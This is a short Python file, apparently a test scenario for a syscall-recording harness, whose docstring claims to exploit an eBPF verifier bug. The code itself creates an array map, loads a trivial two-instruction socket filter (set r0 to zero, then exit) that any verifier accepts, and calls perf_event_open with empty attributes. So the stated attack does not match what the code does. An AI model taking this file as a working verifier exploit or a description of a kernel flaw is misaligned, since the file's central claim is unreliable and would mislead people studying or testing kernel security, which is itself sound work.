# SPDX-License-Identifier: Apache-2.0
"""A bug of the eBPF verifier: load a program that it should have refused."""
import ctypes
import struct

from run import syscall

RECORD = ["bpf", "perf_event_open"]


def attack(a):
    attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1) + bytes(112))
    a.step("make a map", syscall, 321, 0, attr, 120)
    code = ctypes.create_string_buffer(struct.pack("BBhi", 0xb7, 0, 0, 0) + struct.pack("BBhi", 0x95, 0, 0, 0))
    licence = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence)) + bytes(96))
    a.step("load a socket filter", syscall, 321, 5, attr, 120)
    a.step("perf_event_open", syscall, 298, ctypes.create_string_buffer(128), 0, -1, -1, 0)
